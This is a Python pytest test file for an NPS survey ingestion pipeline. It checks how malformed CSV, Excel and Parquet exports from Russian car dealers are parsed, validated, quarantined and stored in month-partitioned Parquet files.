"""Ingest: a corpus of small malformed exports written here, each with its exact outcome; the
store (append, idempotence, last ingest wins, pushdown); the CLI; the demo round trip; and
hypothesis properties (every row is accepted or quarantined, accepted rows obey the schema)."""

import codecs
import csv
import io
import json

import numpy as np
import openpyxl
import pandas as pd
import pyarrow.dataset as ds
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from analysis import ingest, schemas, store
from analysis.__main__ import main
from analysis.ingest import IngestError, read_export

NOW = pd.Timestamp("2026-11-15 12:00")
DEALERS = pd.DataFrame({"dealer_id": ["D001", "D002", "D003"],
                        "dealer_name": ["Автоцентр Тула", "Моторс Омск", "Drive Сочи"],
                        "region": ["Central", "Siberia", "South"],
                        "city": ["Тула", "Омск", "Сочи"]})
RU = ["ID ответа", "Код дилера", "Точка контакта", "Дата ответа", "Оценка",
      "Качество продукта", "Качество ремонта и ТО", "Процесс записи на сервис",
      "Компетентность и отношение персонала", "Атмосфера в дилерском центре",
      "Открыт для дилера", "Комментарий"]
EN = ["Response ID", "Dealer code", "Touchpoint", "Response date", "Score", "Product quality",
      "Quality of repair and maintenance", "Service booking process",
      "Staff competence and attitude", "Atmosphere in the dealer centre", "Open for dealer",
      "Comments"]


def row(rid, *, dealer="D001", tp="сервис", date="31.10.2026 14:05", nps="9",
        ratings=("9", "8", "10", "9", "7"), open_="да", comment=""):
    return [rid, dealer, tp, date, nps, *ratings, open_, comment]


def write_csv(path, header, rows, *, sep=";", encoding="utf-8", blank_after=()):
    """Rows as an export writes them; ``blank_after``: row numbers followed by a blank line."""
    buf = io.StringIO()
    w = csv.writer(buf, delimiter=sep, lineterminator="\r\n")
    w.writerow(header)
    for i, r in enumerate(rows, start=1):
        w.writerow(r)
        if i in blank_after:
            buf.write("\r\n")
    path.write_bytes(buf.getvalue().encode(encoding))
    return path


def write_xlsx(path, rows, *, sheet="Sheet1", extra_sheets=()):
    book = openpyxl.Workbook()
    for name in extra_sheets:
        book.create_sheet(name, 0)
    ws = book.worksheets[len(extra_sheets)]
    ws.title = sheet
    for r in rows:
        ws.append(list(r))
    book.save(path)
    return path


def read(path, table="responses", **kw):
    kw.setdefault("dealers", DEALERS)
    kw.setdefault("now", NOW)
    return read_export(path, table=table, **kw)


def problems(result):
    q = result.quarantined
    return list(zip(q["source_line"].tolist(), q["problem"].tolist()))


def ids(result, col="response_id"):
    return result.accepted[col].tolist()


def check_invariant(result):
    assert len(result.accepted) + len(result.quarantined) == result.n_read
    schemas.validate(result.table, result.accepted, dealers=DEALERS, now=NOW)


# --- the corpus: encodings, delimiters, headers -------------------------------------------------
@pytest.mark.parametrize(("encoding", "sep", "header", "detected"), [
    ("utf-8", ",", EN, ("utf-8", ",")),
    ("utf-8-sig", ";", RU, ("utf-8-sig", ";")),
    ("cp1251", ";", RU, ("cp1251", ";")),
    ("utf-16", "\t", RU, ("utf-16", "\t")),       # Excel's "Unicode text"
    ("cp1251", "\t", EN, ("utf-8", "\t")),        # pure ASCII content decodes as UTF-8
])
def test_encodings_and_delimiters_are_detected(tmp_path, encoding, sep, header, detected):
    rows = [row("R1", comment="Всё отлично, спасибо; быстро"), row("R2", nps="10")]
    if header is EN:
        rows = [row("R1", tp="service", open_="yes", comment="fine, thanks"),
                row("R2", tp="service", nps="10", open_="no")]
    r = read(write_csv(tmp_path / "x.csv", header, rows, sep=sep, encoding=encoding))
    assert (r.encoding, r.delimiter) == detected
    assert ids(r) == ["R1", "R2"] and r.accepted["nps"].tolist() == [9, 10]
    assert r.accepted["comment"].iloc[0] == rows[0][-1]
    assert problems(r) == [] and r.n_read == 2
    check_invariant(r)


def test_semicolon_file_with_decimal_commas_is_not_read_as_comma_separated(tmp_path):
    rows = [row("R1", nps="9,0", ratings=("9,0", "8,0", "10,0", "9,0", "7,0"))]
    r = read(write_csv(tmp_path / "x.csv", RU, rows, sep=";"))
    assert r.delimiter == ";" and r.accepted["nps"].tolist() == [9]
    assert r.accepted["booking"].tolist() == [10.0]


def test_headers_match_whatever_the_case_spacing_and_punctuation(tmp_path):
    header = ["  response_ID ", "КОД  ДИЛЕРА", "точка-контакта", "Дата_ответа", "Оценка NPS",
              "product quality", "Repair_Quality", "BOOKING", "staff", "Атмосфера",
              "Открыто для дилера:", "Отзыв"]
    r = read(write_csv(tmp_path / "x.csv", header, [row("R1")]))
    assert ids(r) == ["R1"]
    assert r.columns["Оценка NPS"] == "nps" and r.columns["response_ID"] == "response_id"


def test_bytes_neither_utf8_nor_cp1251_raise(tmp_path):
    path = tmp_path / "bad.csv"
    path.write_bytes(";".join(RU).encode("cp1251") + b"\r\nR1;\x98\x98\r\n")
    with pytest.raises(IngestError, match=r"bad\.csv: byte \d+ is neither UTF-8 nor "
                                          r"Windows-1251.*--encoding"):
        read(path)


def test_explicit_encoding_overrides_detection(tmp_path):
    path = write_csv(tmp_path / "koi.csv", RU, [row("R1")], encoding="koi8_r")
    with pytest.raises(IngestError, match="no header row found"):
        read(path)  # KOI8-R decodes as Windows-1251 gibberish: no header
    assert ids(read(path, encoding="koi8_r")) == ["R1"]


# --- values ------------------------------------------------------------------------------------
def test_scores_out_of_range_not_whole_or_not_numbers_are_quarantined(tmp_path):
    rows = [row("R1", nps="11"), row("R2", nps="-1"), row("R3", nps="9,5"),
            row("R4", nps="abc"), row("R5", nps="9,0"), row("R6", nps=" 9.0 "),
            row("R7", nps=""), row("R8", nps="0")]
    r = read(write_csv(tmp_path / "scores.csv", RU, rows))
    assert ids(r) == ["R5", "R6", "R8"] and r.accepted["nps"].tolist() == [9, 9, 0]
    assert problems(r) == [
        (2, "nps: out of range 0-10 ('11')"),
        (3, "nps: out of range 0-10 ('-1')"),
        (4, "nps: not a whole number ('9,5')"),
        (5, "nps: not a number ('abc')"),
        (8, "nps: missing value"),
    ]
    check_invariant(r)


def test_scores_as_words(tmp_path):
    rows = [row("R1", nps="девять"), row("R2", nps="Nine"), row("R3", nps="ДЕСЯТЬ"),
            row("R4", nps="ноль"), row("R5", nps="девяносто")]
    r = read(write_csv(tmp_path / "words.csv", RU, rows))
    assert r.accepted["nps"].tolist() == [9, 9, 10, 0]
    assert problems(r) == [(6, "nps: not a number ('девяносто')")]


def test_driver_ratings_range_blank_and_fractions(tmp_path):
    rows = [row("R1", ratings=("", "8", "10", "9", "7")),
            row("R2", ratings=("0", "8", "10", "9", "7")),
            row("R3", ratings=("9", "8,5", "10", "9", "11"))]
    # declared: detected, the 0 would make product_quality's scale 0-10 (tests/test_ingest_vendor)
    r = read(write_csv(tmp_path / "drivers.csv", RU, rows), scales={"*": "1-10"})
    assert ids(r) == ["R1"] and np.isnan(r.accepted["product_quality"].iloc[0])
    assert problems(r) == [
        (3, "product_quality: outside the scale 1-10 ('0')"),
        (4, "repair_quality: not a whole number ('8,5'); atmosphere: outside the scale 1-10 "
            "('11')"),
    ]
    assert r.quarantined["bad_columns"].tolist() == ["product_quality",
                                                     "repair_quality; atmosphere"]


def test_dates_in_several_formats(tmp_path):
    dates = ["31.10.2026", "31.10.2026 14:05", "2026-10-31", "2026-10-31T14:05:00",
             "31.10.2026 14:05:07", "2026-10-31 14:05", "2026-10-31T14:05:00+03:00",
             "2026-10-31T11:05:00Z", "31/10/2026", "1026-10-31", "31.10.2026 25:00"]
    rows = [row(f"R{i}", date=d) for i, d in enumerate(dates, start=1)]
    r = read(write_csv(tmp_path / "dates.csv", RU, rows))
    expected = [pd.Timestamp(t) for t in [
        "2026-10-31", "2026-10-31 14:05", "2026-10-31", "2026-10-31 14:05",
        "2026-10-31 14:05:07", "2026-10-31 14:05", "2026-10-31 14:05", "2026-10-31 14:05",
        "2026-10-31"]]  # 31/10/2026: day/month, since 31 is no month
    assert r.accepted["responded_at"].tolist() == expected
    assert problems(r) == [
        (11, "responded_at: implausible date (before 01.01.2000 or after 2200) ('1026-10-31')"),
        (12, "responded_at: not a date ('31.10.2026 25:00')"),
    ]


def test_future_dates_are_quarantined(tmp_path):
    rows = [row("R1", date="15.11.2026 11:59"), row("R2", date="15.11.2026 12:01"),
            row("R3", date="2027-01-01")]
    r = read(write_csv(tmp_path / "future.csv", RU, rows))
    assert ids(r) == ["R1"]
    assert problems(r) == [
        (3, "responded_at: in the future (after 15.11.2026 12:00) ('15.11.2026 12:01')"),
        (4, "responded_at: in the future (after 15.11.2026 12:00) ('2027-01-01')"),
    ]


def test_booleans(tmp_path):
    words = ["да", "Нет", "yes", "NO", "1", "0", "true", "False", "может быть", ""]
    rows = [row(f"R{i}", open_=w) for i, w in enumerate(words, start=1)]
    r = read(write_csv(tmp_path / "bool.csv", RU, rows))
    assert r.accepted["open_to_dealer"].tolist() == [True, False] * 4
    assert problems(r) == [(10, "open_to_dealer: not yes/no ('может быть')"),
                           (11, "open_to_dealer: missing value")]


def test_touchpoint_codes_and_aliases(tmp_path):
    rows = [row("R1", tp="Сервис"), row("R2", tp="sales_new"), row("R3", tp="Продажа с пробегом"),
            row("R4", tp="Горячая линия"), row("R5", tp="магазин"), row("R6", tp="")]
    r = read(write_csv(tmp_path / "tp.csv", RU, rows))
    assert r.accepted["touchpoint"].tolist() == ["service", "sales_new", "sales_used", "hotline"]
    allowed = ", ".join(schemas.TOUCHPOINTS)
    words = ("New car sales, Used car sales, Service & repair, Roadside assistance, Importer "
             "hotline, Продажа новых автомобилей, Продажа автомобилей с пробегом, Сервис и "
             "ремонт, Помощь на дороге, Горячая линия импортера")
    assert problems(r) == [(6, f"touchpoint: not one of: {words} (or the codes {allowed}) "
                               "('магазин')"),
                           (7, "touchpoint: missing value")]


def test_unknown_dealer_is_quarantined(tmp_path):
    r = read(write_csv(tmp_path / "dealer.csv", RU, [row("R1", dealer="D999"),
                                                      row("R2", dealer=" D002 ")]))
    assert ids(r) == ["R2"] and r.accepted["dealer_id"].tolist() == ["D002"]
    assert problems(r) == [(2, "dealer_id: unknown dealer (not in the dealers table) ('D999')")]


def test_a_row_failing_several_checks_is_quarantined_once_with_every_reason(tmp_path):
    rows = [row("R1", dealer="D999", nps="11", date="32.10.2026", open_="?")]
    r = read(write_csv(tmp_path / "many.csv", RU, rows))
    assert r.n_read == 1 and len(r.quarantined) == 1
    assert r.quarantined["bad_columns"].iloc[0] == "dealer_id; responded_at; nps; open_to_dealer"
    assert r.quarantined["problem"].iloc[0] == (
        "dealer_id: unknown dealer (not in the dealers table) ('D999'); "
        "responded_at: not a date ('32.10.2026'); nps: out of range 0-10 ('11'); "
        "open_to_dealer: not yes/no ('?')")
    assert r.reasons.set_index(["column", "reason"])["rows"].to_dict() == {
        ("responded_at", "not a date"): 1, ("open_to_dealer", "not yes/no"): 1,
        ("nps", "out of range 0-10"): 1,
        ("dealer_id", "unknown dealer (not in the dealers table)"): 1}


# --- rows: blank lines, duplicates, malformed -------------------------------------------------
def test_blank_lines_are_skipped_and_not_counted_line_numbers_stay_true(tmp_path):
    path = tmp_path / "blank.csv"
    text = (";".join(RU) + "\r\n\r\n" + ";".join(row("R1")) + "\r\n;;;; ;\r\n   \r\n"
            + ";".join(row("R2", nps="11")) + "\r\n\r\n")
    path.write_text(text, encoding="utf-8")
    r = read(path)
    assert r.n_read == 2 and ids(r) == ["R1"]
    assert problems(r) == [(6, "nps: out of range 0-10 ('11')")]


def test_duplicates_keep_the_first_and_name_its_line(tmp_path):
    rows = [row("R1"), row("R2"), row("R1"), row("R1", nps="3"), row("R3", nps="11"),
            row("R3")]
    r = read(write_csv(tmp_path / "dups.csv", RU, rows, blank_after=(1,)))
    assert ids(r) == ["R1", "R2"]
    assert problems(r) == [
        (5, "response_id: duplicate row: same as line 2"),
        (6, "response_id: duplicate id R1: first seen at line 2"),
        (7, "nps: out of range 0-10 ('11')"),
        (8, "response_id: duplicate id R3: first seen at line 7"),
    ]
    check_invariant(r)


def test_quoted_values_with_separators_and_line_breaks(tmp_path):
    rows = [row("R1", comment="Долго;\r\nочень долго\r\n\"ждал\""), row("R2", nps="11")]
    r = read(write_csv(tmp_path / "quoted.csv", RU, rows))
    assert r.accepted["comment"].tolist() == ["Долго;\r\nочень долго\r\n\"ждал\""]
    assert problems(r) == [(5, "nps: out of range 0-10 ('11')")]  # R2 starts on line 5


def test_a_row_with_more_cells_than_the_header_is_quarantined_alone(tmp_path):
    path = tmp_path / "cells.csv"
    lines = [";".join(RU), ";".join(row("R1")), ";".join(row("R2", comment="плохо; грубо")),
             ";".join(row("R3")) + ";;"]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    r = read(path)
    assert ids(r) == ["R1", "R3"]
    assert problems(r) == [(3, "(row): the row has 13 cells, the header 12 (an unquoted ';' "
                               "inside a value?); extra cells: [' грубо']")]


def test_a_quote_never_closed_is_an_error_naming_the_line(tmp_path):
    path = tmp_path / "quote.csv"
    path.write_text(";".join(RU) + "\n" + ";".join(row("R1")) + "\n"
                    + ";".join(row("R2", comment='"не закрыта')) + "\n", encoding="utf-8")
    with pytest.raises(IngestError, match=r"quote\.csv, line 3: .*quote"):
        read(path)


# --- columns -----------------------------------------------------------------------------------
def test_missing_required_column_names_file_column_and_aliases(tmp_path):
    header = [h for h in RU if h != "Оценка"]
    rows = [[c for h, c in zip(RU, row("R1")) if h != "Оценка"]]
    with pytest.raises(IngestError) as err:
        read(write_csv(tmp_path / "no_nps.csv", header, rows))
    msg = str(err.value)
    assert "no_nps.csv" in msg and "required column(s) missing" in msg and "nps" in msg
    assert "nps: nps, оценка nps, nps оценка, оценка," in msg and "likelihood to recommend" in msg
    assert "Комментарий" in msg  # the file's own columns, to compare


def test_extra_columns_are_dropped_from_accepted_and_kept_in_quarantine(tmp_path):
    header = [*RU, "Регион", "Менеджер"]
    rows = [[*row("R1"), "Central", "Иванов"], [*row("R2", nps="11"), "South", "Петров"]]
    r = read(write_csv(tmp_path / "extra.csv", header, rows))
    assert ids(r) == ["R1"] and "Регион" not in r.accepted
    assert r.ignored_columns == ("Регион", "Менеджер")
    assert r.quarantined[["Регион", "Менеджер"]].values.tolist() == [["South", "Петров"]]
    assert list(r.quarantined.columns[:4]) == list(ingest.META)


def test_optional_columns_may_be_missing(tmp_path):
    header = RU[:-1]  # no comment
    r = read(write_csv(tmp_path / "nocomment.csv", header, [row("R1")[:-1]]))
    assert ids(r) == ["R1"] and "comment" not in r.accepted
    assert "comment" in r.missing_optional and "email" in r.missing_optional


def test_two_columns_meaning_the_same_raise(tmp_path):
    header = [*RU, "NPS"]
    with pytest.raises(IngestError, match="columns 'Оценка' and 'NPS' both mean 'nps'"):
        read(write_csv(tmp_path / "twice.csv", header, [[*row("R1"), "9"]]))


def test_css_attributes_are_optional_columns_rated_1_to_10(tmp_path):
    header = [*RU, "Ease of making an appointment", "css_value"]
    rows = [[*row("R1"), "9", ""], [*row("R2"), "11", "5"]]
    r = read(write_csv(tmp_path / "css.csv", header, rows))
    assert ids(r) == ["R1"] and r.accepted["css_appointment"].tolist() == [9.0]
    assert np.isnan(r.accepted["css_value"].iloc[0])
    assert problems(r) == [(3, "css_appointment: out of range 1-10 ('11')")]


# --- formats -----------------------------------------------------------------------------------
def test_excel_with_a_title_row_reports_excel_row_numbers(tmp_path):
    rows = [["Выгрузка NPS за октябрь 2026"], [], RU, row("R1"), [], row("R2", nps=11),
            [None] * 12, [*row("R3", nps="девять"), None, "заметка"]]
    r = read(write_xlsx(tmp_path / "nps.xlsx", rows))
    assert r.header_line == 3 and r.n_read == 3 and ids(r) == ["R1", "R3"]
    assert problems(r) == [(6, "nps: out of range 0-10 ('11')")]
    assert r.ignored_columns == ("(column 13)", "(column 14)")  # data without a header


def test_excel_native_types_and_a_named_sheet(tmp_path):
    native = [["R1", "D001", "Сервис", pd.Timestamp("2026-10-31 14:05").to_pydatetime(), 9,
               9, 8.0, 10, 9, 7, True, None],
              ["R2", "D001", "Сервис", pd.Timestamp("2026-10-31").to_pydatetime(), 9.5,
               9, 8, 10, 9, 7, False, "ok"]]
    path = write_xlsx(tmp_path / "book.xlsx", [RU, *native], sheet="NPS",
                      extra_sheets=("Обложка",))
    r = read(path, sheet="NPS")
    assert ids(r) == ["R1"] and r.accepted["open_to_dealer"].tolist() == [True]
    assert r.accepted["responded_at"].tolist() == [pd.Timestamp("2026-10-31 14:05")]
    assert problems(r) == [(3, "nps: not a whole number ('9.5')")]
    with pytest.raises(IngestError, match=r"no sheet 'Лист1'; its sheets are \['Обложка', 'NPS'\]"):
        read(path, sheet="Лист1")
    with pytest.raises(IngestError, match=r"book\.xlsx \(sheet 'Обложка'\): no header row"):
        read(path)  # the first sheet is a cover page


def test_parquet_export_with_aliased_headers_and_typed_columns(tmp_path):
    frame = pd.DataFrame({"Response ID": ["R1", "R2"], "Dealer code": ["D001", "D002"],
                          "touchpoint": ["service", "hotline"],
                          "Response date": [pd.Timestamp("2026-10-01 10:00"),
                                            pd.Timestamp("2026-12-01")],
                          "nps": [10, 12], "product_quality": [9.0, np.nan],
                          "repair_quality": [9.0, 9], "booking": [9.0, 9], "staff": [9.0, 9],
                          "atmosphere": [9.0, 9], "open_to_dealer": [True, False]})
    frame.to_parquet(tmp_path / "x.parquet", index=False)
    r = read(tmp_path / "x.parquet")
    assert ids(r) == ["R1"] and r.accepted["nps"].dtype == "int64"
    assert problems(r) == [(2, "responded_at: in the future (after 15.11.2026 12:00) "
                               "('2026-12-01T00:00:00'); nps: out of range 0-10 ('12')")]


@pytest.mark.parametrize(("content", "match"), [
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 40, r"old Excel \.xls.*save it as \.xlsx"),
    (b"\x00\x01\x02binary\x00", "not a text file"),
    (b"", "no header row found"),
    ("просто текст\nбез заголовков\n".encode(), "no header row found.*Check --table"),
    (b"PK\x03\x04broken zip", "not a readable .xlsx workbook"),
    (b"PAR1broken", "not a readable Parquet file"),
])
def test_files_that_cannot_be_read_raise_naming_the_file(tmp_path, content, match):
    path = tmp_path / "export.dat"
    path.write_bytes(content)
    with pytest.raises(IngestError, match=match) as err:
        read(path)
    assert str(path) in str(err.value)


def test_missing_file_and_unknown_table_raise(tmp_path):
    with pytest.raises(IngestError, match="no such file"):
        read(tmp_path / "nope.csv")
    with pytest.raises(IngestError, match="unknown table 'answers'"):
        read(tmp_path / "nope.csv", table="answers")


# --- the other tables ----------------------------------------------------------------------------
def test_dealers_export(tmp_path):
    header = ["Код дилера", "Наименование ДЦ", "Регион", "Город"]
    rows = [["D001", "Автоцентр Тула", "Central", "Тула"], ["D002", "Моторс", "", "Омск"],
            ["D001", "Автоцентр Тула 2", "Central", "Тула"], ["D004", "Drive", "South", ""]]
    r = read(write_csv(tmp_path / "dealers.csv", header, rows), table="dealers")
    assert ids(r, "dealer_id") == ["D001", "D004"] and r.accepted["city"].isna().tolist() == [
        False, True]
    assert problems(r) == [(3, "region: missing value"),
                           (4, "dealer_id: duplicate id D001: first seen at line 2")]


def test_invitations_months_in_several_formats(tmp_path):
    header = ["Dealer code", "Touchpoint", "Period", "Invitations sent"]
    rows = [["D001", "Service & repair", "10.2026", "120"], ["D001", "hotline", "2026-10", "1 200"],
            ["D002", "service", "01.10.2026", "5"], ["D002", "service", "2026-13", "5"],
            ["D003", "service", "2026-12", "5"], ["D003", "service", "2026-11", "-5"],
            ["D001", "service", "2026-10", "7"], ["D003", "service", "1999-10", "5"]]
    r = read(write_csv(tmp_path / "inv.csv", header, rows, sep=","), table="invitations")
    assert r.accepted[["dealer_id", "month", "invited"]].values.tolist() == [
        ["D001", "2026-10", 120], ["D001", "2026-10", 1200], ["D002", "2026-10", 5]]
    assert problems(r) == [
        (5, "month: not a month ('2026-13')"),
        (6, "month: in the future (after 2026-11) ('2026-12')"),
        (7, "invited: below 0 ('-5')"),
        (8, "dealer_id+touchpoint+month: duplicate id D001/service/2026-10: first seen at line 2"),
        (9, "month: implausible month (before 2000-01) ('1999-10')"),
    ]


def test_cases_from_excel_with_row_rules(tmp_path):
    header = ["Номер кейса", "ID ответа", "Код дилера", "Ответственный", "Дата открытия",
              "Дата первого контакта", "Дата закрытия", "Решение"]
    t = pd.Timestamp
    rows = [["Кейсы", None], header,
            ["C1", "R1", "D001", "Дилер", t("2026-10-01 10:00"), t("2026-10-01 12:00"), None,
             None],
            ["C2", "R2", "D001", "импортёр", t("2026-10-02 10:00"), t("2026-10-01 09:00"),
             t("2026-10-01 08:00"), "x"],
            ["C3", "R3", "D002", "кто-то", "02.10.2026 10:00", None, None, None]]
    rows = [[v.to_pydatetime() if isinstance(v, pd.Timestamp) else v for v in r] for r in rows]
    r = read(write_xlsx(tmp_path / "cases.xlsx", rows), table="cases")
    assert ids(r, "case_id") == ["C1"] and r.accepted["owner"].tolist() == ["dealer"]
    assert problems(r) == [
        (4, "first_contact_at: first_contact_at before opened_at ('2026-10-01T09:00:00'); "
            "closed_at: closed_at before opened_at ('2026-10-01T08:00:00')"),
        (5, "owner: not one of dealer, importer ('кто-то')"),
    ]


def test_repair_orders_tab_separated(tmp_path):
    header = ["RO number", "VIN", "Dealer code", "Opened", "Closed", "Defect code",
              "Fault description", "Technician", "Supervisor", "Цех"]
    rows = [["RO1", "XW8AAAAAAAA000001", "D001", "2026-10-01 09:00", "2026-10-01 18:00",
             "ENG-01", "  Стук  ", "Иванов И.И.", "", "1"],
            ["RO2", "", "D001", "2026-10-01 09:00", "", "", "", "", "", "2"]]
    r = read(write_csv(tmp_path / "ro.tsv", header, rows, sep="\t"), table="repair_orders")
    assert ids(r, "ro_id") == ["RO1"]
    assert r.accepted["fault"].tolist() == ["  Стук  "]  # free text is kept as written
    assert r.accepted["foreman"].isna().all() and r.ignored_columns == ("Цех",)
    assert problems(r) == [(3, "vin: missing value")]


def test_incidents_in_windows_1251_with_russian_codes(tmp_path):
    header = ["Номер обращения", "Дата обращения", "Дата закрытия", "Канал", "Категория",
              "Причина", "Тип обращения", "Код дилера", "Текст обращения"]
    rows = [["I1", "01.10.2026 10:00", "01.10.2026 11:00", "Телефон", "long_service",
             "few_staff", "Жалоба", "D001", "Долго"],
            ["I2", "01.10.2026 10:00", "", "голубиная почта", "other", "", "Благодарность",
             "D002", "Спасибо"],
            ["I3", "01.10.2026 10:00", "30.09.2026", "Соцсети", "other", "", "спасибо", "D002",
             ""]]
    r = read(write_csv(tmp_path / "inc.csv", header, rows, encoding="cp1251"), table="incidents")
    assert r.accepted[["channel", "kind"]].values.tolist() == [["phone", "complaint"]]
    channels = ", ".join(schemas.ALLOWED["channel"])
    assert problems(r) == [
        (3, f"channel: not one of {channels} ('голубиная почта')"),
        (4, "closed_at: closed_at before created_at ('30.09.2026')"),
    ]


# --- schemas -----------------------------------------------------------------------------------
def test_demo_tables_validate_completely(small_net):
    for table in schemas.TABLES:
        frame = getattr(small_net, table)
        out = schemas.validate(table, frame, dealers=small_net.dealers,
                               now=pd.Timestamp("2100-01-01"))
        assert len(out) == len(frame), table
        assert list(out.columns) == [c for c in schemas.columns(table) if c in frame], table
    assert set(schemas.DRIVERS) <= set(schemas.required_columns("responses"))
    assert not set(schemas.CSS_ATTRIBUTES) & set(schemas.required_columns("responses"))


def test_schemas_reject_what_the_demo_never_holds(small_net):
    bad = small_net.responses.head(3).assign(nps=[9, 11, 9])
    with pytest.raises(Exception, match="less_than_or_equal_to"):
        schemas.validate("responses", bad)
    dup = pd.concat([small_net.dealers.head(2), small_net.dealers.head(1)])
    with pytest.raises(Exception, match="field_uniqueness"):
        schemas.validate("dealers", dup)
    extra = small_net.dealers.assign(manager="x")
    with pytest.raises(Exception, match="manager"):
        schemas.validate("dealers", extra)  # strict


def test_every_alias_names_one_column_per_table():
    for table in schemas.TABLES:
        index = ingest._alias_index(table, ingest.load_params("columns"))
        assert set(index.values()) == {*schemas.columns(table),
                                       *ingest.SIDE_COLUMNS.get(table, ())}


# --- the store ---------------------------------------------------------------------------------
@pytest.fixture()
def root(tmp_path):
    """A data root whose store knows the dealers."""
    path = write_csv(tmp_path / "dealers.csv", ["dealer_id", "dealer_name", "region", "city"],
                     DEALERS.values.tolist(), sep=",")
    ingest.ingest_file(path, table="dealers", data_root=tmp_path / "data", now=NOW)
    return tmp_path / "data"


def test_ingest_writes_month_partitions_quarantine_and_log(tmp_path, root):
    rows = [row("R1", date="30.09.2026 10:00"), row("R2"), row("R3", nps="11"), row("R2")]
    path = write_csv(tmp_path / "oct.csv", RU, rows)
    rec = ingest.ingest_file(path, table="responses", data_root=root, now=NOW)
    assert (rec.appended.added, rec.appended.replaced, rec.appended.unchanged) == (2, 0, 0)
    parts = sorted({p.parent.relative_to(root).as_posix() for p in root.rglob("*.parquet")})
    assert parts == ["processed/dealers",
                     "processed/responses/month=2026-09",
                     "processed/responses/month=2026-10"]
    back = store.load("responses", data_dir=root / "processed")
    assert back["response_id"].tolist() == ["R1", "R2"]
    assert back["month"].tolist() == ["2026-09", "2026-10"]  # the partition comes back too
    q = pd.read_csv(root / "quarantine" / "oct.csv.csv", sep=";", encoding="utf-8-sig",
                    dtype=str)
    assert q["source_line"].tolist() == ["4", "5"]
    assert q["problem"].tolist() == ["nps: out of range 0-10 ('11')",
                                     "response_id: duplicate row: same as line 3"]
    assert q["Оценка"].tolist() == ["11", "9"]
    log = [json.loads(x) for x in (root / "processed" / "_ingest_log.jsonl").read_text(
        encoding="utf-8").splitlines()]
    assert [e["file"] for e in log] == ["dealers.csv", "oct.csv"]
    assert {k: log[1][k] for k in ("read", "accepted", "quarantined", "added")} == {
        "read": 4, "accepted": 2, "quarantined": 2, "added": 2}
    assert log[1]["reasons"] == {"nps: out of range 0-10": 1, "response_id: duplicate row": 1}
    assert "R3" not in json.dumps(log)  # no values, so no personal data, in the log


def test_reingesting_changes_nothing_and_a_fixed_file_clears_its_quarantine(tmp_path, root):
    path = write_csv(tmp_path / "oct.csv", RU, [row("R1"), row("R2", nps="11")])
    ingest.ingest_file(path, table="responses", data_root=root, now=NOW)
    again = ingest.ingest_file(path, table="responses", data_root=root, now=NOW)
    assert (again.appended.added, again.appended.replaced, again.appended.unchanged) == (0, 0, 1)
    assert len(store.load("responses", data_dir=root / "processed")) == 1
    assert (root / "quarantine" / "oct.csv.csv").exists()
    write_csv(path, RU, [row("R1"), row("R2", nps="10")])
    fixed = ingest.ingest_file(path, table="responses", data_root=root, now=NOW)
    assert (fixed.appended.added, fixed.appended.unchanged) == (1, 1)
    assert fixed.quarantine_file is None and not (root / "quarantine" / "oct.csv.csv").exists()
    summary = ingest.quarantine_summary(root / "processed")
    assert summary[["file", "read", "accepted", "quarantined"]].values.tolist() == [
        ["dealers.csv", 3, 3, 0], ["oct.csv", 2, 2, 0]]


def test_a_corrected_quarantine_file_can_be_ingested_back(tmp_path, root):
    path = write_csv(tmp_path / "oct.csv", RU, [row("R1"), row("R2", nps="11"), row("R1")])
    ingest.ingest_file(path, table="responses", data_root=root, now=NOW)
    qfile = root / "quarantine" / "oct.csv.csv"
    fixed = qfile.read_text(encoding="utf-8-sig").replace(";11;", ";10;")
    (tmp_path / "oct_fixed.csv").write_text(fixed, encoding="utf-8-sig")
    rec = ingest.ingest_file(tmp_path / "oct_fixed.csv", table="responses", data_root=root,
                             now=NOW)
    assert rec.result.ignored_columns == ingest.META
    assert (rec.appended.added, rec.appended.unchanged) == (1, 1)  # R2 new, R1 again
    assert store.load("responses", data_dir=root / "processed")["nps"].tolist() == [9, 10]
    assert store.append("responses", rec.result.accepted.iloc[:0],
                        data_dir=root / "processed") == store.AppendResult("responses")


def test_the_last_ingest_wins_even_across_months(tmp_path, root):
    header = ["case_id", "response_id", "dealer_id", "owner", "opened_at", "first_contact_at",
              "closed_at"]
    first = write_csv(tmp_path / "cases_1.csv", header, [
        ["C1", "R1", "D001", "dealer", "30.09.2026 10:00", "", ""],
        ["C2", "R2", "D001", "dealer", "01.10.2026 10:00", "", ""]])
    ingest.ingest_file(first, table="cases", data_root=root, now=NOW)
    second = write_csv(tmp_path / "cases_2.csv", header, [
        ["C1", "R1", "D001", "dealer", "01.10.2026 09:00", "01.10.2026 12:00", ""],
        ["C2", "R2", "D001", "dealer", "01.10.2026 10:00", "", ""],
        ["C3", "R3", "D002", "importer", "02.10.2026 10:00", "", ""]])
    rec = ingest.ingest_file(second, table="cases", data_root=root, now=NOW)
    assert (rec.appended.added, rec.appended.replaced, rec.appended.unchanged) == (1, 1, 1)
    back = store.load("cases", data_dir=root / "processed").set_index("case_id")
    assert back.index.tolist() == ["C1", "C2", "C3"]  # C1 left the September partition
    assert back.loc["C1", "first_contact_at"] == pd.Timestamp("2026-10-01 12:00")
    files, _ = store.data_files("cases", data_dir=root / "processed", months=["2026-09"])
    assert not files  # the table's current version has no September file


def test_an_optional_column_arriving_later_is_added_to_every_partition(tmp_path, root):
    ingest.ingest_file(write_csv(tmp_path / "a.csv", RU, [row("R1", date="01.09.2026")]),
                       table="responses", data_root=root, now=NOW)
    css = write_csv(tmp_path / "b.csv", [*RU, "css_value"], [[*row("R2"), "8"]])
    ingest.ingest_file(css, table="responses", data_root=root, now=NOW)
    back = store.load("responses", data_dir=root / "processed")
    assert back["response_id"].tolist() == ["R1", "R2"]
    assert back["css_value"].isna().tolist() == [True, False]
    assert back["comment"].isna().all()


def test_month_filters_are_pushed_down_to_partitions_and_row_groups(tmp_path, root):
    rows = [row(f"R{m}", date=f"15.{m:02d}.2026") for m in range(1, 11)]
    ingest.ingest_file(write_csv(tmp_path / "year.csv", RU, rows), table="responses",
                       data_root=root, now=NOW)
    inv = [["D001", "service", f"2026-{m:02d}", "10"] for m in range(1, 11)]
    ingest.ingest_file(write_csv(tmp_path / "inv.csv", ["dealer_id", "touchpoint", "month",
                                                        "invited"], inv),
                       table="invitations", data_root=root, now=NOW)
    processed = root / "processed"
    got = store.load("responses", months=["2026-03"], data_dir=processed)
    assert got["response_id"].tolist() == ["R3"]
